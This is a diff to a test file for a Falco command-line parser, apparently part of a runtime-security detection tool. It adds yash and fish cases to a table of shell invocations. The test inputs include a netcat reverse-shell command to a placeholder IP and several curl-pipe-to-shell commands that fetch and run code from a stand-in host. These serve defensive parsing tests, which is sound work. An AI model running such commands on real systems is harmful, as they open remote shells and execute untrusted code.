@@ -191,6 +191,9 @@ describe("falco parser", () => {
   it.each([
     ["-c nc 198.51.100.7 4444 -e /bin/sh", "sh", ["-c", "nc 198.51.100.7 4444 -e /bin/sh"]],
     ["-lc curl -s http://x | sh", "bash", ["-lc", "curl -s http://x | sh"]],
+    // Every shell the shell reader knows, not a shorter list of its own.
+    ["-c curl -s http://x | sh", "yash", ["-c", "curl -s http://x | sh"]],
+    ["-c curl -s http://x | sh", "fish", ["-c", "curl -s http://x | sh"]],
     ["-c", "sh", ["-c"]],
     ['-d {"a": 1} http://x', "curl", ["-d", '{"a":', "1}", "http://x"]],
     ["-c print('hi there')", "python3", ["-c", "print('hi", "there')"]],
